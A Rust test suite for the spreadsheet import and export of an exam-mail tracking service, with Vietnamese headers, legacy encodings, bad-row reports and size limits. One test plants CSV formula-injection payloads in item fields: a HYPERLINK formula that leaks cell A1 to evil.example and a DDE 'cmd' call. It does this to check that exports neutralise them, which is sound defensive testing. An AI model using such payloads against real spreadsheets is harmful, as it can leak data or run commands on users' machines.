//! Spreadsheets: export every page as CSV, import it back (English or
//! Vietnamese headers), bad rows reported by line, re-imports idempotent.

use serde_json::{json, Value};

use crate::items::{department_and_carrier, item_json, s10};
use crate::util::{Party, Reply, TestApp};
use exampost::domain::OrgKind;

async fn import(app: &TestApp, party: &Party, csv: &str) -> Reply {
    let auth = format!("Bearer {}", party.token);
    app.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", "text/csv; charset=utf-8")], csv.as_bytes().to_vec()).await
}

/// The comparable part of an export: everything a registration sets.
fn registration_columns(csv: &str) -> Vec<String> {
    let mut lines: Vec<String> = csv
        .trim_start_matches('\u{feff}')
        .lines()
        .skip(1)
        .map(|line| {
            let cells: Vec<&str> = line.split(',').collect();
            // Up to `reference`; status (4) and the derived/time columns after it differ.
            cells[..20].iter().enumerate().filter(|(i, _)| *i != 4).map(|(_, c)| *c).collect::<Vec<_>>().join(",")
        })
        .collect();
    lines.sort();
    lines
}

#[actix_web::test]
async fn export_then_import_into_a_fresh_database_gives_the_same_items() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    app.org("DHHV", OrgKind::Education, "phu-tho");
    let mut batch: Vec<Value> = (1..=1500).map(|n| item_json(&s10(n), "2026-THPT")).collect();
    batch[7]["recipient"] = json!({"type": "organization", "organization": "DHHV"});
    batch[7]["candidate"] = json!({"candidate_number": "15009999", "full_name": "Lê Văn Tám", "date_of_birth": "2008-08-08"});
    batch[7]["kind"] = json!("enrollment_dossier");
    for chunk in batch.chunks(1000) {
        let reply = app.post("/api/v1/items/batch", Some(&dept.token), &json!({ "items": chunk })).await;
        assert_eq!(reply.status, 200);
    }
    let export = app.get("/api/v1/items?format=csv&season=2026-THPT", Some(&dept.token)).await;
    assert_eq!(export.status, 200, "{}", &export.text[..export.text.len().min(300)]);
    assert!(export.content_type().starts_with("text/csv"));
    assert!(export.text.starts_with("\u{feff}tracking_number,season,kind,priority,status"));
    assert_eq!(export.text.lines().count(), 1501, "every page, header once");

    let fresh = TestApp::new().await;
    let (fresh_dept, _) = department_and_carrier(&fresh);
    fresh.org("DHHV", OrgKind::Education, "phu-tho");
    let report = import(&fresh, &fresh_dept, &export.text).await;
    assert_eq!(report.status, 200, "{}", &report.text[..report.text.len().min(500)]);
    assert_eq!((report.body["rows"].as_u64(), report.body["created"].as_u64(), report.body["rejected"].as_u64()), (Some(1500), Some(1500), Some(0)));
    let again = fresh.get("/api/v1/items?format=csv&season=2026-THPT", Some(&fresh_dept.token)).await;
    assert_eq!(registration_columns(&again.text), registration_columns(&export.text));

    let rerun = import(&fresh, &fresh_dept, &export.text).await;
    assert_eq!((rerun.body["created"].as_u64(), rerun.body["duplicates"].as_u64()), (Some(0), Some(1500)));
    assert_eq!(fresh.count("items"), 1500);
}

/// A Vietnamese export (headers, labels, Vietnam time, province names)
/// reads back into the same items, attention lines included.
#[actix_web::test]
async fn a_vietnamese_export_round_trips() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    app.org("DHHV", OrgKind::Education, "phu-tho");
    let mut items: Vec<Value> = (1..=3).map(|n| item_json(&s10(n), "2026-THPT")).collect();
    items[0]["must_arrive_by"] = json!("2099-06-20");
    items[1]["must_arrive_by"] = json!("2099-06-20T08:30:00+07:00");
    items[1]["priority"] = json!("urgent");
    items[2]["recipient"] = json!({"type": "organization", "organization": "DHHV", "attention": "Phòng Đào tạo"});
    items[2]["candidate"] = json!({"candidate_number": "15009999", "full_name": "Lê Văn Tám", "date_of_birth": "2008-08-08"});
    items[2]["kind"] = json!("enrollment_dossier");
    let reply = app.post("/api/v1/items/batch", Some(&dept.token), &json!({ "items": items })).await;
    assert_eq!(reply.status, 200, "{}", reply.text);

    let export = app.get("/api/v1/items?format=csv&lang=vi&season=2026-THPT", Some(&dept.token)).await;
    assert_eq!(export.status, 200);
    assert!(export.text.starts_with("\u{feff}Số hiệu bưu gửi,Kỳ thi,Loại bưu gửi,Mức ưu tiên,Trạng thái"), "{}", export.text);
    for shown in ["Giấy báo dự thi", "Hồ sơ nhập học", "Hỏa tốc", "Phú Thọ", "14/03/2008", "20/06/2099 08:30", "Phòng Đào tạo"] {
        assert!(export.text.contains(shown), "{shown} missing from {}", export.text);
    }
    app.get("/api/v1/items?format=csv&lang=fr", Some(&dept.token)).await.problem(422);

    let fresh = TestApp::new().await;
    let (fresh_dept, _) = department_and_carrier(&fresh);
    fresh.org("DHHV", OrgKind::Education, "phu-tho");
    let report = import(&fresh, &fresh_dept, &export.text).await;
    assert_eq!((report.body["created"].as_u64(), report.body["rejected"].as_u64()), (Some(3), Some(0)), "{}", report.text);
    assert_eq!(report.body["ignored_columns"], json!([]), "every column of the export is known");
    let original = app.get("/api/v1/items?format=csv&season=2026-THPT", Some(&dept.token)).await;
    let copied = fresh.get("/api/v1/items?format=csv&season=2026-THPT", Some(&fresh_dept.token)).await;
    assert_eq!(registration_columns(&copied.text), registration_columns(&original.text));
}

/// The first sheet of a workbook, cell by cell, as calamine reads it.
fn sheet_cells(bytes: &[u8]) -> Vec<Vec<calamine::Data>> {
    use calamine::Reader;
    let mut book = calamine::open_workbook_auto_from_rs(std::io::Cursor::new(bytes.to_vec())).expect("a workbook");
    let range = book.worksheet_range_at(0).expect("a sheet").expect("readable");
    range.rows().map(|r| r.to_vec()).collect()
}

/// `.xlsx` both ways: the export keeps every cell text (a phone keeps its
/// zero), and a workbook a spreadsheet program made, with the phone typed
/// as a number and the date of birth as a date cell, imports like a CSV.
#[actix_web::test]
async fn workbooks_export_as_text_and_import_like_csv() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let items: Vec<Value> = (1..=3).map(|n| item_json(&s10(n), "2026-THPT")).collect();
    assert_eq!(app.post("/api/v1/items/batch", Some(&dept.token), &json!({ "items": items })).await.status, 200);
    let export = app.get("/api/v1/items?format=xlsx&lang=vi&season=2026-THPT", Some(&dept.token)).await;
    assert_eq!(export.status, 200, "{}", export.text);
    assert!(export.content_type().starts_with("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
    let cells = sheet_cells(&export.bytes);
    assert_eq!(cells.len(), 4, "a header and three items");
    assert_eq!(cells[0][0], calamine::Data::String("Số hiệu bưu gửi".into()));
    let phone_at = cells[0].iter().position(|c| *c == calamine::Data::String("Điện thoại".into())).unwrap();
    assert_eq!(cells[1][phone_at], calamine::Data::String("0912345678".into()), "a phone stays text, zero and all");

    // Read back into a fresh database.
    let fresh = TestApp::new().await;
    let (fresh_dept, _) = department_and_carrier(&fresh);
    let auth = format!("Bearer {}", fresh_dept.token);
    let xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    let report = fresh.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", xlsx)], export.bytes.clone()).await;
    assert_eq!((report.body["created"].as_u64(), report.body["encoding"].as_str()), (Some(3), Some("workbook")), "{}", report.text);

    // A clerk's own workbook: numbers and dates typed as such.
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (col, header) in ["STT", "Mã bưu gửi", "Kỳ thi", "Loại", "Bưu chính", "SBD", "Họ tên thí sinh", "Ngày sinh", "Điện thoại", "Tỉnh", "Phường/Xã", "Địa chỉ"].iter().enumerate() {
        sheet.write_string(0, col as u16, *header).unwrap();
    }
    let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2008, 3, 14).unwrap();
    let date_format = rust_xlsxwriter::Format::new().set_num_format("dd/mm/yyyy");
    sheet.write_number(1, 0, 1).unwrap();
    sheet.write_string(1, 1, s10(9)).unwrap();
    sheet.write_string(1, 2, "2026-THPT").unwrap();
    sheet.write_string(1, 3, "Giấy báo dự thi").unwrap();
    sheet.write_string(1, 4, "VNPOST").unwrap();
    sheet.write_number(1, 5, 15001234).unwrap();
    sheet.write_string(1, 6, "Nguyễn Thị Minh Anh").unwrap();
    sheet.write_datetime_with_format(1, 7, &date, &date_format).unwrap();
    sheet.write_number(1, 8, 912345678).unwrap();
    sheet.write_string(1, 9, "Phú Thọ").unwrap();
    sheet.write_string(1, 10, "Phường Việt Trì").unwrap();
    sheet.write_string(1, 11, "12 Trần Phú").unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let report = fresh.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", "application/octet-stream")], bytes).await;
    assert_eq!((report.body["created"].as_u64(), report.body["rejected"].as_u64()), (Some(1), Some(0)), "{}", report.text);
    let item = fresh.get(&format!("/api/v1/items/{}", s10(9)), Some(&fresh_dept.token)).await.body;
    assert_eq!((item["recipient"]["date_of_birth"].as_str(), item["recipient"]["phone"].as_str()), (Some("2008-03-14"), Some("0912345678")), "{item}");
    assert_eq!(item["recipient"]["candidate_number"], "15001234");

    let broken = fresh.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", xlsx)], b"PK\x03\x04 not really a zip".to_vec()).await;
    assert_eq!(broken.problem(422)["errors"][0]["field"], "file");
    assert_eq!(fresh.count("items"), 4);
}

#[actix_web::test]
async fn vietnamese_headers_dates_and_bad_rows() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let csv = format!(
        "\u{feff}Số hiệu,Kỳ thi,Loại,Ưu tiên,Doanh nghiệp bưu chính,Số báo danh,Họ và tên,Ngày sinh,Tỉnh,Phường/Xã,Địa chỉ,Hạn phát\n\
         {a},2026-THPT,exam_notice,urgent,VNPOST,15000001,Nguyễn Văn An,14/03/2008,Phú Thọ,Phường Việt Trì,\"12 Trần Phú, tổ 3\",20/06/2099\n\
         RR123456786VN,2026-THPT,exam_notice,urgent,VNPOST,15000002,Trần Thị Bình,02/07/2008,Phú Thọ,Phường Việt Trì,1 Hùng Vương,\n\
         {c},2026-THPT,love_letter,urgent,VNPOST,15000004,Phạm Thị Dung,01/01/2008,Phú Thọ,Phường Việt Trì,3 Hùng Vương,\n\
         {d},2026-THPT,result_certificate,standard,VNPOST,15000005,Hoàng Văn Em,05/05/2008,Vĩnh Phúc,Phường Vĩnh Yên,4 Chu Văn An,\n\
         {b},2026-THPT,exam_notice,urgent,VNPOST,15000003,\"Lê Văn Cường,01/01/2008,Phú Thọ,Phường Việt Trì,2 Hùng Vương,\n",
        a = s10(1), b = s10(2), c = s10(3), d = s10(4)
    );
    let report = import(&app, &dept, &csv).await;
    assert_eq!(report.status, 200, "{}", report.text);
    assert_eq!((report.body["rows"].as_u64(), report.body["created"].as_u64(), report.body["rejected"].as_u64()), (Some(5), Some(2), Some(3)), "{}", report.text);
    let lines: Vec<u64> = report.body["results"].as_array().unwrap().iter().map(|r| r["line"].as_u64().unwrap()).collect();
    assert_eq!(lines, vec![3, 4, 6]);
    let fields: Vec<&str> = report.body["results"].as_array().unwrap().iter().map(|r| r["error"]["errors"][0]["field"].as_str().unwrap()).collect();
    assert_eq!(fields, vec!["tracking_number", "kind", "row"], "an unclosed quote is reported, not guessed at");
    let item = app.get(&format!("/api/v1/items/{}", s10(1)), Some(&dept.token)).await.body;
    assert_eq!(item["recipient"]["date_of_birth"], "2008-03-14");
    assert_eq!(item["destination"]["address_line"], "12 Trần Phú, tổ 3");
    assert_eq!(item["must_arrive_by"], "2099-06-20T16:59:59Z");
    assert_eq!(app.get(&format!("/api/v1/items/{}", s10(4)), Some(&dept.token)).await.body["destination"]["province"], "phu-tho");
}

#[actix_web::test]
async fn malformed_files_are_refused_whole() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let wrong_columns = import(&app, &dept, "tracking_number,colour\nRR123456785VN,red\n").await;
    let problem = wrong_columns.problem(422);
    let reasons: Vec<&str> = problem["errors"].as_array().unwrap().iter().map(|e| e["reason"].as_str().unwrap()).collect();
    assert!(reasons.contains(&"missing column season") && !reasons.iter().any(|r| r.contains("colour")), "an unknown column is ignored, not refused: {reasons:?}");

    // Bytes that are not UTF-8 are read as Windows-1258, what Vietnamese Excel saves.
    let legacy: Vec<u8> = b"tracking_number,season,kind,province,ward,address_line,full_name\nRR123456785VN,2026-THPT,exam_notice,phu-tho,Vi\xeat Tr\xec,x,y\n".to_vec();
    let auth = format!("Bearer {}", dept.token);
    let reply = app.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", "text/csv")], legacy).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert_eq!((reply.body["rejected"].as_u64(), reply.body["encoding"].as_str()), (Some(1), Some("windows-1258")), "{}", reply.text);
    assert_eq!(reply.body["results"][0]["tracking_number"], "RR123456785VN", "a refused row names its number");
    assert_eq!(reply.body["results"][0]["error"]["errors"][0]["reason"], "is required", "an English sheet is answered in English");

    let json_body = app.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", "application/json")], b"{}".to_vec()).await;
    json_body.problem(415);
    assert_eq!(app.count("items"), 0);
}

#[test]
fn cli_import_reports_rows() {
    use std::process::Command;
    let db = crate::util::TestDb::new();
    let run = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_exampost"))
            .args(args)
            .env("EXAMPOST_DATABASE_URL", db.url())
            .env("EXAMPOST_JWT_SECRET", "cli-import-test-secret-cli-import-test")
            .env("EXAMPOST_LOG", "warn")
            .output()
            .unwrap()
    };
    assert!(run(&["org", "create", "--code", "SGD-PT", "--name", "Sở GD&ĐT Phú Thọ", "--kind", "education", "--province", "phu-tho"]).status.success());
    assert!(run(&["org", "create", "--code", "VNPOST", "--name", "VNPost", "--kind", "carrier", "--province", "ha-noi"]).status.success());
    assert!(run(&["season", "create", "--code", "2026-TS10", "--name", "Tuyển sinh lớp 10 năm 2026", "--closes-on", "2099-09-30"]).status.success());
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("list.csv");
    let mut csv = String::from("tracking_number,season,kind,carrier_org,candidate_number,full_name,date_of_birth,province,ward,address_line\n");
    for n in 1..=1200 {
        csv.push_str(&format!("{},2026-TS10,exam_notice,VNPOST,{:08},Thí sinh {n},2011-01-01,phu-tho,Phường Việt Trì,{n} Hùng Vương\n", s10(n), n));
    }
    std::fs::write(&path, csv).unwrap();
    let output = run(&["import", path.to_str().unwrap(), "--org", "sgd-pt"]);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((report["rows"].as_u64(), report["created"].as_u64()), (Some(1200), Some(1200)));
    let again: Value = serde_json::from_slice(&run(&["import", path.to_str().unwrap(), "--org", "SGD-PT"]).stdout).unwrap();
    assert_eq!((again["created"].as_u64(), again["duplicates"].as_u64()), (Some(0), Some(1200)));
    let overseer = run(&["org", "create", "--code", "DIC", "--name", "DIC", "--kind", "overseer", "--province", "phu-tho"]);
    assert!(overseer.status.success());
    let refused = run(&["import", path.to_str().unwrap(), "--org", "DIC"]);
    assert!(!refused.status.success());
}

/// Cells a spreadsheet would run as a formula, in every export: each such
/// cell comes back with a leading quote, and importing the export gives the
/// original text back.
#[actix_web::test]
async fn every_export_neutralises_formula_cells() {
    use chrono::{Duration, FixedOffset};
    use exampost::clock::Clock;
    use exampost::domain::Role;

    let app = TestApp::new().await;
    // Organization codes allow a leading '-', and reach other organizations' exports.
    let dept = app.new_party("-SGD", OrgKind::Education, "phu-tho");
    let carrier = app.new_party("-VNPOST", OrgKind::Carrier, "ha-noi");
    let admin = app.party(&app.org("ADMIN", OrgKind::Overseer, "ha-noi"), Role::Admin);
    let number = s10(1);
    let mut item = item_json(&number, "2026-THPT");
    item["carrier_org"] = json!("-VNPOST");
    item["priority"] = json!("urgent");
    item.as_object_mut().unwrap().remove("must_arrive_by");
    item["recipient"]["full_name"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")");
    item["destination"]["ward"] = json!("+cmd|' /C calc'!A0");
    item["destination"]["address_line"] = json!("-2+3");
    item["seal_number"] = json!("@SUM(1+1)");
    item["reference"] = json!("'=already quoted");
    assert_eq!(app.post("/api/v1/items", Some(&dept.token), &item).await.status, 201);
    let at = app.clock.now().with_timezone(&FixedOffset::east_opt(7 * 3600).unwrap()).to_rfc3339();
    let accepted = json!({"client_event_id": "a-1", "type": "accepted", "occurred_at": at, "office_code": "=2+5"});
    assert_eq!(app.post(&format!("/api/v1/items/{number}/events"), Some(&carrier.token), &accepted).await.status, 201);
    let at = app.clock.now().with_timezone(&FixedOffset::east_opt(7 * 3600).unwrap()).to_rfc3339();
    let broken = json!({"client_event_id": "s-1", "type": "seal_checked", "occurred_at": at, "office_code": "@A1", "seal_number": "@SUM(1+1)", "intact": false});
    assert_eq!(app.post(&format!("/api/v1/items/{number}/events"), Some(&carrier.token), &broken).await.status, 201);
    // Unacknowledged for two hours, the tampering case climbs to level 2 and into the steering report.
    app.clock.advance(Duration::hours(2));
    exampost::app::cases::sweep(&mut **app.conn(), app.clock.as_ref()).unwrap();

    let exports = [
        ("items", app.get("/api/v1/items?format=csv", Some(&dept.token)).await),
        ("cases", app.get("/api/v1/cases?format=csv", Some(&dept.token)).await),
        ("steering", app.get("/api/v1/reports/steering?season=2026-THPT&format=csv", Some(&admin.token)).await),
    ];
    for (name, export) in &exports {
        assert_eq!(export.status, 200, "{name}: {}", export.text);
        assert!(export.text.starts_with('\u{feff}'), "{name} keeps the BOM");
        // The steering export holds several tables one after the other: its rows differ in length.
        let mut reader = ::csv::ReaderBuilder::new().flexible(true).from_reader(export.text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert!(!rows.is_empty(), "{name} has rows");
        for cell in rows.iter().flat_map(|r| r.iter()) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell:?} would run as a formula");
        }
        assert!(rows.iter().flat_map(|r| r.iter()).any(|c| c == "'-VNPOST" || c == "'-SGD"), "{name} quotes the org code: {}", export.text);
    }
    let items = &exports[0].1.text;
    for quoted in ["'=HYPERLINK(", "'+cmd|", "'-2+3", "'@SUM(1+1)", "''=already quoted", "'@A1", "'-SGD", "'-VNPOST"] {
        assert!(items.contains(quoted), "items export lacks {quoted:?}: {items}");
    }

    let fresh = TestApp::new().await;
    let fresh_dept = fresh.new_party("-SGD", OrgKind::Education, "phu-tho");
    fresh.new_party("-VNPOST", OrgKind::Carrier, "ha-noi");
    let report = import(&fresh, &fresh_dept, items).await;
    assert_eq!(report.body["created"].as_u64(), Some(1), "{}", report.text);
    let back = fresh.get(&format!("/api/v1/items/{number}"), Some(&fresh_dept.token)).await;
    assert_eq!(back.body["recipient"]["full_name"], item["recipient"]["full_name"]);
    assert_eq!(back.body["destination"]["ward"], item["destination"]["ward"]);
    assert_eq!(back.body["destination"]["address_line"], "-2+3");
    assert_eq!(back.body["seal_number"], "@SUM(1+1)");
    assert_eq!(back.body["reference"], "'=already quoted");
}

/// A spreadsheet of `rows` valid candidates' exam notices.
fn valid_rows(rows: u32) -> String {
    let mut csv = String::from("tracking_number,season,kind,carrier_org,candidate_number,full_name,date_of_birth,province,ward,address_line\n");
    for n in 1..=rows {
        csv.push_str(&format!("{},2026-THPT,exam_notice,VNPOST,{:08},Nguyễn Văn An,14/03/2008,Phú Thọ,Phường Việt Trì,12 Hùng Vương\n", s10(n), 15_000_000 + n));
    }
    csv
}

#[actix_web::test]
async fn an_upload_over_the_limit_is_refused_before_a_row_is_read() {
    let app = TestApp::with_config(|config| config.import_max_bytes = 16 * 1024).await;
    let (dept, _) = department_and_carrier(&app);
    let small = import(&app, &dept, &valid_rows(3)).await;
    assert_eq!((small.status, small.body["created"].as_u64()), (200, Some(3)), "{}", small.text);

    let big = valid_rows(400);
    assert!(big.len() > 16 * 1024);
    let problem = import(&app, &dept, &big).await.problem(413).clone();
    assert!(problem["detail"].as_str().unwrap().contains("16384"), "{problem}");
    assert_eq!(app.count("items"), 3, "nothing of the large file was registered");
}

#[actix_web::test]
async fn an_upload_of_unknown_length_is_refused() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let body = valid_rows(2).into_bytes();
    let chunks = futures_util::stream::iter([Ok::<_, std::io::Error>(actix_web::web::Bytes::from(body))]);
    let reply = app.stream("POST", "/api/v1/items/import", &[("authorization", &format!("Bearer {}", dept.token)), ("content-type", "text/csv")], chunks).await;
    reply.problem(411);
    assert_eq!(app.count("items"), 0);
}

#[actix_web::test]
async fn a_file_of_bad_rows_gets_a_bounded_report() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    // About 5 MiB: every row names a kind that does not exist, each a different long one.
    let mut csv = String::from("tracking_number,season,kind,province,ward,address_line\n");
    let filler = "x".repeat(200);
    for n in 1..=20_000u32 {
        csv.push_str(&format!("{},2026-THPT,kind-{n}-{filler},phu-tho,Phường Việt Trì,12 Hùng Vương\n", s10(n)));
    }
    assert!(csv.len() > 4 << 20);
    let report = import(&app, &dept, &csv).await;
    assert_eq!(report.status, 200, "{}", &report.text[..report.text.len().min(500)]);
    assert_eq!((report.body["rows"].as_u64(), report.body["rejected"].as_u64()), (Some(20_000), Some(20_000)));
    assert!(report.text.len() < 128 * 1024, "the report is {} bytes", report.text.len());
    let listed = report.body["results"].as_array().unwrap();
    assert_eq!(listed.len(), 100, "the first rows are listed");
    assert_eq!(listed[0]["line"], 2);
    assert_eq!(report.body["omitted_results"], 19_900);
    let groups = report.body["rejected_by_field"].as_array().unwrap();
    let kind_rows: u64 = groups.iter().filter(|g| g["field"] == "kind").map(|g| g["rows"].as_u64().unwrap()).sum();
    assert_eq!(kind_rows, 20_000, "{groups:?}");
    assert_eq!(app.count("items"), 0);
}

#[actix_web::test]
async fn a_huge_header_is_not_echoed_back() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let huge_column = "é".repeat(2_500_000);
    let csv = format!("tracking_number,season,kind,province,ward,address_line,{huge_column}\n{},2026-THPT,exam_notice,phu-tho,P,A,x\n", s10(1));
    let reply = import(&app, &dept, &csv).await;
    assert_eq!(reply.status, 200, "{}", &reply.text[..reply.text.len().min(500)]);
    assert!(reply.text.len() < 4096, "the answer is {} bytes", reply.text.len());
    assert_eq!(reply.body["ignored_columns"][0].as_str().map(|c| c.chars().count()), Some(61), "named, clipped to sixty and an ellipsis");

    let many_columns = format!("tracking_number,season,kind,province,ward,address_line{}\n", ",x".repeat(500_000));
    let reply = import(&app, &dept, &many_columns).await;
    assert_eq!(reply.status, 200);
    assert!(reply.text.len() < 8192, "the answer is {} bytes", reply.text.len());
    assert_eq!(reply.body["ignored_columns"].as_array().unwrap().len(), 21, "twenty named, the rest counted");
    assert_eq!(app.count("items"), 0, "the one row had no candidate");
}

/// The same sheet as a clerk's office saves it three ways: Excel's CSV in
/// a Vietnamese locale (Windows-1258, semicolons), Excel's "Unicode text"
/// (UTF-16 with tabs) and UTF-8 with a BOM; with an STT column, the
/// headers and values clerks type, a number repeated and a bad row.
#[actix_web::test]
async fn spreadsheets_as_clerks_have_them() {
    let files = [
        ("excel-semicolon.cp1258.csv", "application/vnd.ms-excel", "windows-1258", ";"),
        ("unicode-text.utf16.txt", "text/plain", "UTF-16LE", "\t"),
        ("comma-bom.csv", "text/csv", "UTF-8", ","),
    ];
    for (file, content_type, encoding, delimiter) in files {
        let app = TestApp::new().await;
        let (dept, _) = department_and_carrier(&app);
        let path = format!("{}/fixtures/import/{file}", env!("CARGO_MANIFEST_DIR"));
        let bytes = std::fs::read(&path).unwrap();
        let auth = format!("Bearer {}", dept.token);
        let reply = app.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", content_type)], bytes).await;
        assert_eq!(reply.status, 200, "{file}: {}", reply.text);
        let report = &reply.body;
        assert_eq!((report["encoding"].as_str(), report["delimiter"].as_str()), (Some(encoding), Some(delimiter)), "{file}: {report}");
        assert_eq!(report["ignored_columns"], serde_json::json!(["STT"]), "{file}");
        assert_eq!((report["created"].as_u64(), report["rejected"].as_u64()), (Some(2), Some(2)), "{file}: {report}");
        let repeat = &report["results"][0];
        assert_eq!((repeat["line"].as_u64(), repeat["tracking_number"].as_str()), (Some(4), Some("RR473000016VN")), "{file}: {report}");
        // The sheet's headers are Vietnamese: so are its rows' reasons.
        assert_eq!(repeat["error"]["errors"][0]["reason"], "trùng số hiệu với dòng 2 của tệp");
        // Its title and detail too, the detail naming the column as a clerk does; the field stays the API's.
        assert_eq!(repeat["error"]["title"], "Dữ liệu chưa hợp lệ", "{file}: {report}");
        assert_eq!(repeat["error"]["detail"], "Số hiệu: trùng số hiệu với dòng 2 của tệp", "{file}: {report}");
        assert_eq!(repeat["error"]["errors"][0]["field"], "tracking_number");
        let bad = &report["results"][1];
        assert_eq!((bad["tracking_number"].as_str(), bad["error"]["errors"][0]["field"].as_str()), (Some("RR473000033VN"), Some("kind")), "{file}: {report}");
        assert!(bad["error"]["errors"][0]["reason"].as_str().unwrap().contains("không phải giá trị hợp lệ"), "{file}: {report}");

        let item = app.get("/api/v1/items/RR473000016VN", Some(&dept.token)).await.body;
        assert_eq!((item["kind"].as_str(), item["priority"].as_str()), (Some("exam_notice"), Some("priority")), "{file}: {item}");
        // Composed as any other text, whatever the file's encoding wrote.
        assert_eq!(item["recipient"]["full_name"], "Nguyễn Thị Minh Anh", "{file}");
        assert_eq!((item["recipient"]["date_of_birth"].as_str(), item["destination"]["province"].as_str()), (Some("2008-03-14"), Some("phu-tho")));
        assert_eq!(app.get("/api/v1/items/RR473000020VN", Some(&dept.token)).await.body["kind"], "admission_notice");
    }
}

/// The refused rows come back as a sheet to fix and import again.
#[actix_web::test]
async fn refused_rows_come_back_as_a_sheet_to_fix() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let bytes = std::fs::read(format!("{}/fixtures/import/comma-bom.csv", env!("CARGO_MANIFEST_DIR"))).unwrap();
    let auth = format!("Bearer {}", dept.token);
    let headers = [("authorization", auth.as_str()), ("content-type", "text/csv")];
    let sheet = app.raw("POST", "/api/v1/items/import?rejected=csv", &headers, bytes).await;
    assert_eq!(sheet.status, 200, "{}", sheet.text);
    assert!(sheet.content_type().starts_with("text/csv"));
    let counts: Vec<&str> = ["x-import-created", "x-import-rejected"].iter().map(|h| sheet.headers.get(*h).unwrap().to_str().unwrap()).collect();
    assert_eq!(counts, vec!["2", "2"]);
    let lines: Vec<&str> = sheet.text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 3, "{}", sheet.text);
    assert!(lines[0].starts_with("STT,Mã bưu gửi,") && lines[0].ends_with("dòng (line),lỗi (error)"), "{}", lines[0]);
    assert!(lines[1].contains(",4,tracking_number: trùng số hiệu với dòng 2 của tệp"), "{}", lines[1]);
    assert!(lines[2].contains("Thư thường") && lines[2].contains(",5,\"kind: "), "{}", lines[2]);

    // The clerk drops the repeat, corrects the kind and sends the sheet back.
    let fixed = format!("{}\n{}\n", lines[0], lines[2].replace("Thư thường", "Giấy báo dự thi"));
    let again = app.raw("POST", "/api/v1/items/import", &headers, fixed.into_bytes()).await;
    assert_eq!((again.body["created"].as_u64(), again.body["rejected"].as_u64()), (Some(1), Some(0)), "{}", again.text);
    assert_eq!(again.body["ignored_columns"], json!(["STT", "dòng (line)", "lỗi (error)"]));
    app.raw("POST", "/api/v1/items/import?rejected=pdf", &headers, b"x".to_vec()).await.problem(422);
    assert_eq!(app.count("items"), 3);
}

/// A browser's upload form (multipart/form-data) carries the file as any other upload.
#[actix_web::test]
async fn a_form_upload_is_read_like_the_file_itself() {
    let app = TestApp::new().await;
    let (dept, _) = department_and_carrier(&app);
    let file = std::fs::read(format!("{}/fixtures/import/excel-semicolon.cp1258.csv", env!("CARGO_MANIFEST_DIR"))).unwrap();
    let boundary = "----exampost-form-7d1";
    let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nđợt 1\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"danh-sach.csv\"\r\nContent-Type: application/vnd.ms-excel\r\n\r\n").into_bytes();
    body.extend_from_slice(&file);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let auth = format!("Bearer {}", dept.token);
    let content_type = format!("multipart/form-data; boundary={boundary}");
    let reply = app.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", &content_type)], body).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert_eq!((reply.body["created"].as_u64(), reply.body["encoding"].as_str()), (Some(2), Some("windows-1258")), "{}", reply.text);
    let empty_form = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nx\r\n--{boundary}--\r\n").into_bytes();
    let reply = app.raw("POST", "/api/v1/items/import", &[("authorization", &auth), ("content-type", &content_type)], empty_form).await;
    assert_eq!(reply.problem(422)["errors"][0]["field"], "file");
}
